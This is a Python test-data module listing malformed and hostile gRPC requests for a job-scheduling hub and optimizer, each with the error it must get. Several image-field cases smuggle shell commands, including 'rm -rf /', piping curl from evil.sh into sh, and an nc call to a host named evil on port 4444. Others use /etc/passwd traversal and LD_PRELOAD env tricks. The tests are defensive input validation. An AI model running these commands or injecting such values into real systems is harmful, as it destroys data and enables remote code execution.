"""Malformed and hostile requests with the status each must get and the text its message must hold (the field
path, for contract errors). Used by the bad-input table against the real hub and optimizer processes."""

from __future__ import annotations

import base64
import json
import math
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import grpc
from google.protobuf.duration_pb2 import Duration
from google.protobuf.message import Message

from caspian.v1 import common_pb2, hub_pb2, optimizer_pb2
from services.common.timeconv import to_duration, to_timestamp
from tests.reliability.support import GIB, app_wrapper, cluster_infos

INVALID = grpc.StatusCode.INVALID_ARGUMENT
NOT_FOUND = grpc.StatusCode.NOT_FOUND
EXISTS = grpc.StatusCode.ALREADY_EXISTS
PRECONDITION = grpc.StatusCode.FAILED_PRECONDITION
EXHAUSTED = grpc.StatusCode.RESOURCE_EXHAUSTED
# For Solve: the call answers and the job is refused alone (UNPLACED_REASON_INVALID); `text` is in its reason.
REFUSED_ALONE = grpc.StatusCode.OK

ALLOWED_NAMESPACES = ("caspian-jobs", "team-a")
BULK_LIMIT = 100
BULK_MESSAGES_LIMIT = 1000
MAX_MESSAGE_BYTES = 8 * 1024 * 1024


@dataclass(frozen=True)
class Case:
    name: str
    method: str  # "HubService/SubmitAppWrapper", "OptimizerService/Solve", ...
    build: Callable[[datetime], Message | list[Message]]
    code: grpc.StatusCode
    text: str  # must appear in the status message: the field path, or what the transport says


def _aw(now: datetime, **fields) -> common_pb2.AppWrapper:
    message = app_wrapper(now=now)
    for path, value in fields.items():
        target = message
        *parents, leaf = path.split("__")
        for parent in parents:
            target = getattr(target, parent)
        if isinstance(value, Message):
            getattr(target, leaf).CopyFrom(value)
        elif isinstance(value, list):
            container = getattr(target, leaf)
            del container[:]
            container.extend(value)
        elif isinstance(value, dict):
            container = getattr(target, leaf)
            container.clear()
            container.update(value)
        else:
            setattr(target, leaf, value)
    return message


def submit(**fields) -> Callable[[datetime], hub_pb2.SubmitAppWrapperRequest]:
    return lambda now: hub_pb2.SubmitAppWrapperRequest(app_wrapper=_aw(now, **fields))


def _with(mutate: Callable[[common_pb2.AppWrapper, datetime], None]):
    def build(now: datetime) -> hub_pb2.SubmitAppWrapperRequest:
        message = app_wrapper(now=now)
        mutate(message, now)
        return hub_pb2.SubmitAppWrapperRequest(app_wrapper=message)

    return build


def _env(count: int, value: str = "x", name: Callable[[int], str] = lambda i: f"V{i}"):
    return [common_pb2.EnvVar(name=name(i), value=value) for i in range(count)]


def _ts(seconds: int, nanos: int = 0):
    from google.protobuf.timestamp_pb2 import Timestamp

    return Timestamp(seconds=seconds, nanos=nanos)


def _cluster(**changes) -> hub_pb2.RegisterClusterRequest:
    info = cluster_infos()[0]
    info.name = "bad-cluster"
    for path, value in changes.items():
        target = info
        *parents, leaf = path.split("__")
        for parent in parents:
            target = getattr(target, parent)
        setattr(target, leaf, value)
    return hub_pb2.RegisterClusterRequest(cluster=info)


def hub_cases() -> list[Case]:
    s = "HubService/SubmitAppWrapper"
    aw = "app_wrapper"
    t = "app_wrapper.template"
    year_9999 = int(datetime(9999, 12, 31, 23, tzinfo=UTC).timestamp())
    cases = [
        Case("no AppWrapper", s, lambda now: hub_pb2.SubmitAppWrapperRequest(), INVALID, aw),
        Case("no template", s, _with(lambda m, now: m.ClearField("template")), INVALID, f"{t}"),
        Case("empty image", s, submit(template__image=""), INVALID, f"{t}.image"),
        Case(
            "image: shell injection ;", s, submit(template__image="busybox; rm -rf /"), INVALID, f"{t}.image"
        ),
        Case("image: $(...)", s, submit(template__image="busybox$(curl evil.sh|sh)"), INVALID, f"{t}.image"),
        Case("image: backticks", s, submit(template__image="busybox:`id`"), INVALID, f"{t}.image"),
        Case("image: && chain", s, submit(template__image="busybox&&reboot"), INVALID, f"{t}.image"),
        Case("image: newline", s, submit(template__image="busybox\nFROM evil"), INVALID, f"{t}.image"),
        Case("image: upper case path", s, submit(template__image="BusyBox"), INVALID, f"{t}.image"),
        Case("image: 600 characters", s, submit(template__image="a" * 600), INVALID, f"{t}.image"),
        Case(
            "negative cpu",
            s,
            submit(template__resources__cpu_millis=-500),
            INVALID,
            f"{t}.resources.cpu_millis",
        ),
        Case("zero cpu", s, submit(template__resources__cpu_millis=0), INVALID, f"{t}.resources.cpu_millis"),
        Case(
            "negative memory",
            s,
            submit(template__resources__memory_bytes=-GIB),
            INVALID,
            f"{t}.resources.memory_bytes",
        ),
        Case("negative gpus", s, submit(template__resources__gpus=-1), INVALID, f"{t}.resources.gpus"),
        Case(
            "cpu fits no cluster",
            s,
            submit(template__resources__cpu_millis=10**9),
            INVALID,
            f"{t}.resources",
        ),
        Case(
            "negative runtime",
            s,
            submit(template__expected_runtime=to_duration(-60)),
            INVALID,
            f"{t}.expected_runtime",
        ),
        Case(
            "runtime nanos out of range",
            s,
            _with(lambda m, now: setattr(m.template.expected_runtime, "nanos", 2_000_000_000)),
            INVALID,
            f"{t}.expected_runtime.nanos",
        ),
        Case(
            "runtime beyond the horizon",
            s,
            _with(lambda m, now: m.template.expected_runtime.CopyFrom(to_duration(40 * 86400))),
            INVALID,
            f"{t}.expected_runtime",
        ),
        Case("year-9999 deadline", s, submit(deadline=_ts(year_9999)), INVALID, f"{aw}.deadline"),
        Case("deadline past year 9999", s, submit(deadline=_ts(10**12)), INVALID, f"{aw}.deadline"),
        Case(
            "deadline before earliest start + runtime",
            s,
            _with(lambda m, now: m.deadline.CopyFrom(to_timestamp(now + timedelta(seconds=10)))),
            INVALID,
            f"{aw}.deadline",
        ),
        Case(
            "earliest start before 1970",
            s,
            submit(earliest_start=_ts(-86400)),
            INVALID,
            f"{aw}.earliest_start",
        ),
        Case(
            "earliest start nanos out of range",
            s,
            _with(lambda m, now: m.earliest_start.CopyFrom(_ts(int(now.timestamp()) + 60, -5))),
            INVALID,
            f"{aw}.earliest_start.nanos",
        ),
        Case("id: BEL control character", s, submit(id="job\x07"), INVALID, f"{aw}.id"),
        Case("id: newline", s, submit(id="job\nother"), INVALID, f"{aw}.id"),
        Case("id: 64 characters", s, submit(id="a" * 64), INVALID, f"{aw}.id"),
        Case("name: ANSI escape", s, submit(name="\x1b[31mred"), INVALID, f"{aw}.name"),
        Case("name: path traversal", s, submit(name="../../etc/passwd"), INVALID, f"{aw}.name"),
        Case("tenant: NUL", s, submit(tenant="team\x00a"), INVALID, f"{aw}.tenant"),
        Case("namespace outside the allowed list", s, submit(namespace="prod"), INVALID, f"{aw}.namespace"),
        Case("namespace kube-system", s, submit(namespace="kube-system"), INVALID, f"{aw}.namespace"),
        Case("namespace: tab", s, submit(namespace="team-a\t"), INVALID, f"{aw}.namespace"),
        Case("label key: control character", s, submit(labels={"bad\x01key": "v"}), INVALID, f"{aw}.labels"),
        Case(
            "label key reserved for CASPIAN",
            s,
            submit(labels={"caspian.io/appwrapper-id": "someone-else"}),
            INVALID,
            f"{aw}.labels",
        ),
        Case(
            "label key managed-by",
            s,
            submit(labels={"app.kubernetes.io/managed-by": "me"}),
            INVALID,
            f"{aw}.labels",
        ),
        Case("label value: 64 characters", s, submit(labels={"k": "v" * 64}), INVALID, f"{aw}.labels"),
        Case("label value: newline", s, submit(labels={"team": "a\nb"}), INVALID, f"{aw}.labels"),
        Case("65 env variables", s, submit(template__env=_env(65)), INVALID, f"{t}.env"),
        Case(
            "huge env: 10,000 variables (size limit first)",
            s,
            submit(template__env=_env(10_000)),
            INVALID,
            aw,
        ),
        Case(
            "env value above 32 KiB",
            s,
            submit(template__env=_env(1, "x" * 40_000)),
            INVALID,
            f"{t}.env[0].value",
        ),
        Case(
            "env name with '='",
            s,
            submit(template__env=_env(1, name=lambda i: "A=B")),
            INVALID,
            f"{t}.env[0].name",
        ),
        Case(
            "env name with a newline",
            s,
            submit(template__env=_env(1, name=lambda i: "PATH\nLD_PRELOAD")),
            INVALID,
            f"{t}.env[0].name",
        ),
        Case(
            "env name set twice",
            s,
            submit(template__env=_env(2, name=lambda i: "LD_PRELOAD")),
            INVALID,
            f"{t}.env[1].name",
        ),
        Case("env value with NUL", s, submit(template__env=_env(1, "a\x00b")), INVALID, f"{t}.env[0].value"),
        Case(
            "deeply nested env value (JSON 20,000 levels)",
            s,
            submit(template__env=_env(1, "[" * 20_000 + "]" * 20_000)),
            INVALID,
            f"{t}.env[0].value",
        ),
        Case("command with NUL", s, submit(template__command=["sh", "-c\x00rm"]), INVALID, f"{t}.command[1]"),
        Case("300 args", s, submit(template__args=["x"] * 300), INVALID, f"{t}.args"),
        Case("priority -1", s, submit(priority=-1), INVALID, f"{aw}.priority"),
        Case("priority 2^31-1", s, submit(priority=2**31 - 1), INVALID, f"{aw}.priority"),
        Case(
            "required cluster unknown",
            s,
            submit(required_clusters=["nowhere"]),
            INVALID,
            f"{aw}.required_clusters[0]",
        ),
        Case(
            "every cluster excluded",
            s,
            submit(excluded_clusters=[c.name for c in cluster_infos()]),
            INVALID,
            f"{aw}.excluded_clusters",
        ),
        Case(
            "request id with spaces",
            s,
            lambda now: hub_pb2.SubmitAppWrapperRequest(app_wrapper=_aw(now), request_id="a b\x07"),
            INVALID,
            "request_id",
        ),
        Case(
            "AppWrapper above 64 KiB",
            s,
            submit(template__args=["y" * 30_000, "y" * 30_000, "y" * 30_000]),
            INVALID,
            aw,
        ),
        Case(
            "message above the 8 MiB transport limit",
            s,
            submit(template__args=["z" * (MAX_MESSAGE_BYTES + 1024)]),
            EXHAUSTED,
            "larger than max",
        ),
        Case(
            "get: no id",
            "HubService/GetAppWrapper",
            lambda now: hub_pb2.GetAppWrapperRequest(),
            INVALID,
            "id",
        ),
        Case(
            "get: unknown id",
            "HubService/GetAppWrapper",
            lambda now: hub_pb2.GetAppWrapperRequest(id="no-such-id"),
            NOT_FOUND,
            "id",
        ),
        Case(
            "cancel: unknown id",
            "HubService/CancelAppWrapper",
            lambda now: hub_pb2.CancelAppWrapperRequest(id="no-such-id"),
            NOT_FOUND,
            "id",
        ),
        Case(
            "list: negative page size",
            "HubService/ListAppWrappers",
            lambda now: hub_pb2.ListAppWrappersRequest(page_size=-1),
            INVALID,
            "page_size",
        ),
        Case(
            "list: forged page token",
            "HubService/ListAppWrappers",
            lambda now: hub_pb2.ListAppWrappersRequest(page_token="eyJhIjogLTF9"),
            INVALID,
            "page_token",
        ),
        Case(
            "list: unknown phase",
            "HubService/ListAppWrappers",
            lambda now: hub_pb2.ListAppWrappersRequest(phases=[99]),
            INVALID,
            "phases[0]",
        ),
        Case(
            "watch: negative revision",
            "HubService/WatchAppWrappers",
            lambda now: hub_pb2.WatchAppWrappersRequest(since_revision=-1),
            INVALID,
            "since_revision",
        ),
        Case(
            "register cluster: NaN idle watts",
            "HubService/RegisterCluster",
            lambda now: _cluster(power__idle_watts=math.nan),
            INVALID,
            "cluster.power.idle_watts",
        ),
        Case(
            "register cluster: infinite peak watts",
            "HubService/RegisterCluster",
            lambda now: _cluster(power__peak_watts=math.inf),
            INVALID,
            "cluster.power.peak_watts",
        ),
        Case(
            "register cluster: negative capacity",
            "HubService/RegisterCluster",
            lambda now: _cluster(capacity__cpu_millis=-1),
            INVALID,
            "cluster.capacity.cpu_millis",
        ),
        Case(
            "register cluster: control character in name",
            "HubService/RegisterCluster",
            lambda now: _cluster(name="bad\rcluster"),
            INVALID,
            "cluster.name",
        ),
        Case(
            "register cluster: existing name, other spec",
            "HubService/RegisterCluster",
            lambda now: hub_pb2.RegisterClusterRequest(
                cluster=_cluster(name=cluster_infos()[0].name, zone="GB").cluster
            ),
            EXISTS,
            "cluster.name",
        ),
        Case(
            "update cluster: unknown",
            "HubService/UpdateCluster",
            lambda now: hub_pb2.UpdateClusterRequest(cluster=_cluster(name="no-such-cluster").cluster),
            NOT_FOUND,
            "cluster.name",
        ),
        Case(
            "update cluster: unsettable path",
            "HubService/UpdateCluster",
            lambda now: hub_pb2.UpdateClusterRequest(cluster=cluster_infos()[0], update_paths=["ready"]),
            INVALID,
            "update_paths[0]",
        ),
        Case(
            "deregister cluster: unknown",
            "HubService/DeregisterCluster",
            lambda now: hub_pb2.DeregisterClusterRequest(name="no-such-cluster"),
            NOT_FOUND,
            "name",
        ),
        Case(
            "bulk stream above its item limit",
            "HubService/SubmitAppWrappers",
            lambda now: [
                hub_pb2.SubmitAppWrappersRequest(
                    items=[
                        hub_pb2.SubmitAppWrapperRequest(app_wrapper=_aw(now)) for _ in range(BULK_LIMIT + 1)
                    ]
                )
            ],
            EXHAUSTED,
            "items",
        ),
        *issue_17_cases(),
        Case(
            "preview: no AppWrapper",
            "HubService/PreviewSchedule",
            lambda now: hub_pb2.PreviewScheduleRequest(),
            INVALID,
            "app_wrapper",
        ),
        Case(
            "preview: shell injection image",
            "HubService/PreviewSchedule",
            lambda now: hub_pb2.PreviewScheduleRequest(
                app_wrapper=_aw(now, template__image="x|nc evil 4444")
            ),
            INVALID,
            f"{t}.image",
        ),
    ]
    return cases


def _b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def _list_with_token(token: str):
    return lambda now: hub_pb2.ListAppWrappersRequest(page_token=token)


def issue_17_cases() -> list[Case]:
    """Mixed-sign Durations, sub-second runtimes, forged page tokens, long ids, unknown Watch phases, empty bulk
    batches, and the deadline and capacity messages a new user reads."""
    s = "HubService/SubmitAppWrapper"
    t = "app_wrapper.template"
    long_id = "x" * 20_000
    return [
        Case(
            "runtime: mixed signs {10 s, -999999999 ns}",
            s,
            _with(
                lambda m, now: m.template.expected_runtime.CopyFrom(Duration(seconds=10, nanos=-999_999_999))
            ),
            INVALID,
            f"{t}.expected_runtime.nanos",
        ),
        Case(
            "runtime: mixed signs {-10 s, 5 ns}",
            s,
            _with(lambda m, now: m.template.expected_runtime.CopyFrom(Duration(seconds=-10, nanos=5))),
            INVALID,
            f"{t}.expected_runtime.nanos",
        ),
        Case(
            "runtime: one nanosecond (what the optimizer cannot represent)",
            s,
            _with(lambda m, now: m.template.expected_runtime.CopyFrom(Duration(seconds=0, nanos=1))),
            INVALID,
            f"{t}.expected_runtime",
        ),
        Case(
            "runtime: 999 ms",
            s,
            _with(
                lambda m, now: m.template.expected_runtime.CopyFrom(Duration(seconds=0, nanos=999_000_000))
            ),
            INVALID,
            f"{t}.expected_runtime",
        ),
        Case(
            "earliest start before year 1",
            s,
            submit(earliest_start=_ts(-(10**12))),
            INVALID,
            "earliest_start",
        ),
        Case(
            "status timestamp with negative nanos (hub-owned, still checked)",
            s,
            _with(lambda m, now: m.status.started_at.CopyFrom(_ts(10, -1))),
            INVALID,
            "app_wrapper.status.started_at.nanos",
        ),
        Case(
            "deadline in the past: says so, with the hub's time",
            s,
            _with(lambda m, now: m.deadline.CopyFrom(to_timestamp(now - timedelta(days=1)))),
            INVALID,
            "is in the past (the hub's time is",
        ),
        Case(
            "deadline 40 days ahead: says so, with the hub's time",
            s,
            _with(lambda m, now: m.deadline.CopyFrom(to_timestamp(now + timedelta(days=40)))),
            INVALID,
            "more than 30 days ahead (the hub's time is",
        ),
        Case(
            "GPU job on a cluster without GPUs: names it",
            s,
            _with(
                lambda m, now: (
                    setattr(m.template.resources, "gpus", 1),
                    m.required_clusters.append("carbon-jp"),
                )
            ),
            INVALID,
            "gpus=1, but carbon-jp has no GPUs",
        ),
        Case(
            "500 cores: names the dimension and the most offered",
            s,
            submit(template__resources__cpu_millis=500_000),
            INVALID,
            "cpu_millis=500000 is more than any allowed cluster offers: at most 63600 on carbon-cn",
        ),
        Case(
            "list: forged token {a: Infinity}",
            "HubService/ListAppWrappers",
            _list_with_token(_b64(b'{"a": Infinity, "f": "x"}')),
            INVALID,
            "page_token",
        ),
        Case(
            "list: forged token, JSON nested 50,000 deep",
            "HubService/ListAppWrappers",
            _list_with_token(_b64(b"[" * 50_000 + b"]" * 50_000)),
            INVALID,
            "page_token",
        ),
        Case(
            "list: forged token, offset 2^63",
            "HubService/ListAppWrappers",
            _list_with_token(_b64(json.dumps({"a": 2**63, "f": "0" * 12}).encode())),
            INVALID,
            "page_token",
        ),
        Case(
            "list: token of the right length, wrong signature",
            "HubService/ListAppWrappers",
            _list_with_token(_b64(bytes(32))),
            INVALID,
            "page_token",
        ),
        Case(
            "get: 20,000-character id",
            "HubService/GetAppWrapper",
            lambda now: hub_pb2.GetAppWrapperRequest(id=long_id),
            NOT_FOUND,
            "id: AppWrapper 'xxx",
        ),
        Case(
            "cancel: 20,000-character id",
            "HubService/CancelAppWrapper",
            lambda now: hub_pb2.CancelAppWrapperRequest(id=long_id),
            NOT_FOUND,
            "id: AppWrapper 'xxx",
        ),
        Case(
            "watch: unknown phase 99",
            "HubService/WatchAppWrappers",
            lambda now: hub_pb2.WatchAppWrappersRequest(phases=[99]),
            INVALID,
            "phases[0]",
        ),
        Case(
            "watch: phase UNSPECIFIED",
            "HubService/WatchAppWrappers",
            lambda now: hub_pb2.WatchAppWrappersRequest(phases=[1, 0]),
            INVALID,
            "phases[1]",
        ),
        Case(
            "bulk stream of empty messages above its message limit",
            "HubService/SubmitAppWrappers",
            lambda now: [hub_pb2.SubmitAppWrappersRequest() for _ in range(BULK_MESSAGES_LIMIT + 1)],
            EXHAUSTED,
            f"at most {BULK_MESSAGES_LIMIT} messages",
        ),
        Case(
            "preview: mixed-sign runtime",
            "HubService/PreviewSchedule",
            lambda now: hub_pb2.PreviewScheduleRequest(
                app_wrapper=_aw(now, template__expected_runtime=Duration(seconds=60, nanos=-1))
            ),
            INVALID,
            f"{t}.expected_runtime.nanos",
        ),
    ]


# -- Solve ------------------------------------------------------------------------------------------------


def solve_request(now: datetime, slots: int = 8) -> optimizer_pb2.SolveRequest:
    """A small valid problem: two clusters, two jobs, a flat forecast."""
    request = optimizer_pb2.SolveRequest(
        grid=optimizer_pb2.TimeGrid(start=to_timestamp(now), slot=to_duration(900), slots=slots)
    )
    for name, zone in (("kr", "KR"), ("jp", "JP-TK")):
        request.clusters.add(
            name=name,
            zone=zone,
            capacity=common_pb2.Resources(cpu_millis=16_000, memory_bytes=64 * GIB),
            power=common_pb2.PowerModel(watts_per_core=12, pue=1.2),
        )
        request.forecasts.add(cluster=name, gco2_per_kwh=[400.0 + i for i in range(slots)])
    for i in range(2):
        request.jobs.add(
            id=f"j{i}",
            resources=common_pb2.Resources(cpu_millis=1000, memory_bytes=GIB),
            runtime=to_duration(1800),
            earliest_start=to_timestamp(now),
            deadline=to_timestamp(now + timedelta(seconds=900 * slots)),
        )
    request.options.time_limit.CopyFrom(to_duration(5))
    return request


def _solve(mutate: Callable[[optimizer_pb2.SolveRequest], None]):
    def build(now: datetime) -> optimizer_pb2.SolveRequest:
        request = solve_request(now)
        mutate(request)
        return request

    return build


def solve_cases() -> list[Case]:
    m = "OptimizerService/Solve"

    def many_jobs(r):
        template = r.jobs[0]
        del r.jobs[:]
        for i in range(20_001):
            job = r.jobs.add()
            job.CopyFrom(template)
            job.id = f"j{i}"

    return [
        Case("solve: zero slots", m, _solve(lambda r: setattr(r.grid, "slots", 0)), INVALID, "grid.slots"),
        Case(
            "solve: 10^6 slots", m, _solve(lambda r: setattr(r.grid, "slots", 10**6)), INVALID, "grid.slots"
        ),
        Case("solve: no slot length", m, _solve(lambda r: r.grid.ClearField("slot")), INVALID, "grid.slot"),
        Case("solve: no clusters", m, _solve(lambda r: r.ClearField("clusters")), INVALID, "clusters"),
        Case(
            "solve: NaN intensity",
            m,
            _solve(lambda r: r.forecasts[0].gco2_per_kwh.__setitem__(3, math.nan)),
            INVALID,
            "forecasts[0].gco2_per_kwh[3]",
        ),
        Case(
            "solve: negative intensity",
            m,
            _solve(lambda r: r.forecasts[1].gco2_per_kwh.__setitem__(0, -1.0)),
            INVALID,
            "forecasts[1].gco2_per_kwh[0]",
        ),
        Case(
            "solve: short forecast",
            m,
            _solve(lambda r: r.forecasts[0].gco2_per_kwh.pop()),
            INVALID,
            "forecasts[0].gco2_per_kwh",
        ),
        Case(
            "solve: negative capacity",
            m,
            _solve(lambda r: setattr(r.clusters[0].capacity, "cpu_millis", -1)),
            INVALID,
            "clusters[0].capacity.cpu_millis",
        ),
        Case(
            "solve: infinite power",
            m,
            _solve(lambda r: setattr(r.clusters[1].power, "watts_per_core", math.inf)),
            INVALID,
            "clusters[1].power.watts_per_core",
        ),
        Case(
            "solve: zero runtime",
            m,
            _solve(lambda r: r.jobs[0].ClearField("runtime")),
            REFUSED_ALONE,
            "jobs[0].runtime",
        ),
        Case(
            "solve: one-nanosecond runtime (F2)",
            m,
            _solve(lambda r: r.jobs[1].runtime.CopyFrom(Duration(seconds=0, nanos=1))),
            REFUSED_ALONE,
            "jobs[1].runtime",
        ),
        Case(
            "solve: mixed-sign runtime (F5)",
            m,
            _solve(lambda r: r.jobs[0].runtime.CopyFrom(Duration(seconds=10, nanos=-999_999_999))),
            INVALID,
            "jobs[0].runtime.nanos",
        ),
        Case(
            "solve: mixed-sign slot (F5)",
            m,
            _solve(lambda r: r.grid.slot.CopyFrom(Duration(seconds=-900, nanos=5))),
            INVALID,
            "grid.slot.nanos",
        ),
        Case(
            "solve: duplicate job id",
            m,
            _solve(lambda r: setattr(r.jobs[1], "id", "j0")),
            INVALID,
            "jobs[1].id",
        ),
        Case(
            "solve: unknown required cluster",
            m,
            _solve(lambda r: r.jobs[0].required_clusters.append("mars")),
            REFUSED_ALONE,
            "jobs[0].required_clusters[0]",
        ),
        Case(
            "solve: NaN migration cost",
            m,
            _solve(lambda r: setattr(r.options, "migration_cost_gco2", math.nan)),
            INVALID,
            "options.migration_cost_gco2",
        ),
        Case("solve: 20,001 jobs", m, _solve(many_jobs), INVALID, "jobs"),
    ]


def solve_time_cases() -> list[Case]:
    """Times no datetime can hold: the optimizer must refuse them by field, not fail converting them."""
    m = "OptimizerService/Solve"
    return [
        Case(
            "solve: earliest start after year 9999",
            m,
            _solve(lambda r: setattr(r.jobs[0].earliest_start, "seconds", 10**12)),
            INVALID,
            "jobs[0].earliest_start",
        ),
        Case(
            "solve: deadline 2^62 seconds after 1970",
            m,
            _solve(lambda r: setattr(r.jobs[1].deadline, "seconds", 2**62)),
            INVALID,
            "jobs[1].deadline",
        ),
        Case(
            "solve: runtime 2^62 seconds",
            m,
            _solve(lambda r: setattr(r.jobs[0].runtime, "seconds", 2**62)),
            INVALID,
            "jobs[0].runtime",
        ),
        Case(
            "solve: grid starting before year 1",
            m,
            _solve(lambda r: setattr(r.grid.start, "seconds", -(10**12))),
            INVALID,
            "grid.start",
        ),
        Case(
            "solve: slot of 2^62 seconds",
            m,
            _solve(lambda r: setattr(r.grid.slot, "seconds", 2**62)),
            INVALID,
            "grid.slot",
        ),
    ]
